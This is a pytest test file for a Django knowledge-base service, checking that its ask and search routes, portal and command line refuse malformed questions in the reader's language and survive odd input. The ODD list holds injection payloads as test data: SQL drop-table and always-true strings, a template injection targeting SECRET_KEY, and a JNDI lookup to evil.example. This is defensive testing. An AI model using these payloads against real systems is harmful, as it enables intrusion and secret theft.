"""Questions that nobody sensible asks, through every door: an answer or a clear refusal in the reader's language."""

from __future__ import annotations

import re
from typing import Any

import pytest
from django.core.management import call_command

from kb.management.base import FAILED, WRONG_USE, Failed
from kb.management.commands import ask as ask_command
from kb.management.commands import search as search_command
from kb.runtime.secrets import load_secrets
from kb.serving.servers import model_server
from tests.cast import Cast
from tests.doubles import WordEncoder
from tests.faults.house import House
from tests.made import add_document

REFUSED = [("가" * 100_000, 413), ("   \n\t ", 400), ("🙂", 400), ("\u200b\u202e", 400)]
ODD = [
    "\ufdfa" * 40,
    "'; drop table kb_chunk; --",
    '") or 1=1 --',
    "{{ settings.SECRET_KEY }} {% debug %}",
    "${jndi:ldap://evil.example/x}",
    "한도\x00는?",
    "한도는?",  # decomposed
    "%_\\ & | ! <-> :*",
]
KOREAN = re.compile("[가-힣]")


def test_the_api_refuses_what_is_no_question_and_answers_the_rest(house: House):
    before = _rows(house)
    for path, (question, status) in [(path, each) for path in ("/ask/", "/search/") for each in REFUSED]:
        for language, spoken in (("ko", True), ("en", False)):
            answer = house.minsu.api.post(path, json={"question": question}, headers={"Accept-Language": language})
            problem = answer.json()
            assert answer.status_code == status, (path, question[:20], answer.text[:300])
            assert answer.headers["content-type"] == "application/problem+json"
            assert bool(KOREAN.search(problem["detail"])) is spoken, problem
    assert _rows(house) == before
    secret = load_secrets(house.home).django_key
    for question in ODD:
        for path in ("/ask/", "/search/"):
            answer = house.minsu.api.post(path, json={"question": question})
            assert answer.status_code == 200, (path, question, answer.text[:300])
            assert secret not in answer.text
    assert house.rows("select to_regclass('kb_chunk') is not null") == [(True,)]


def test_the_portal_refuses_what_is_no_question_and_answers_the_rest(house: House):
    before = _rows(house)
    for question, status in REFUSED:
        page = house.minsu.ask_by_page(question)
        assert page.status_code == status, (question[:20], page.status_code)
        assert 'class="brand"' in page.text and KOREAN.search(page.text)
    assert _rows(house) == before
    for question in ODD[:4]:
        page = house.minsu.ask_by_page(question)
        assert page.status_code == 200, (question, page.text[:300])
    for question in ODD:
        found = house.minsu.portal.get("/search/", params={"q": question})
        assert found.status_code == 200, question
    assert house.minsu.portal.get("/search/", params={"q": "가" * 6_000}).status_code == 413


def test_two_tabs_that_ask_at_once_both_get_their_answer(house: House):
    from concurrent.futures import ThreadPoolExecutor

    questions = [f"점검 한도는 얼마인가요? {n}" for n in range(4)]
    with ThreadPoolExecutor(4) as pool:
        pages = list(pool.map(house.minsu.ask_by_page, questions))
    for question, page in zip(questions, pages, strict=True):
        assert page.status_code == 200
        assert question in page.text


def _rows(house: House) -> Any:
    return house.rows("select (select count(*) from kb_question), (select count(*) from kb_answer)")


@pytest.fixture
def commands(committed_cast: Cast, word_encoder: WordEncoder, settings, monkeypatch: pytest.MonkeyPatch):
    """Commands of this process, which needs none of the services that they would start."""
    settings.MARU_MODEL_SERVER = "none"
    model_server.cache_clear()
    for command in (ask_command.Command, search_command.Command):
        for need in ("needs_database", "needs_encoder", "needs_model_server"):
            monkeypatch.setattr(command, need, False)
    add_document(committed_cast.rules, "출장여비 규정", ["식비의 한도는 1일 35,000원이다."])
    yield committed_cast
    model_server.cache_clear()


@pytest.mark.parametrize("command", ["ask", "search"])
def test_the_command_line_refuses_what_is_no_question_and_answers_the_rest(
    commands: Cast, command: str, settings, capsys
):
    for question, _status in REFUSED:
        with pytest.raises(Failed) as told:
            call_command(command, question, "--as", "minsu")
        assert told.value.returncode == WRONG_USE
        assert KOREAN.search(str(told.value))
    for question in ODD:
        if "\x00" not in question:  # no command line can carry it
            call_command(command, question, "--as", "minsu", "--json")
    assert settings.SECRET_KEY not in capsys.readouterr().out


def test_a_command_without_its_database_says_so(commands: Cast, monkeypatch: pytest.MonkeyPatch):
    from django.db import connection

    port = connection.settings_dict["PORT"]
    connection.close()
    monkeypatch.setitem(connection.settings_dict, "PORT", 1)
    with pytest.raises(Failed) as told:
        call_command("search", "한도", "--as", "minsu")
    monkeypatch.setitem(connection.settings_dict, "PORT", port)
    assert told.value.returncode == FAILED
    assert "데이터베이스" in str(told.value)
    call_command("search", "한도", "--as", "minsu")
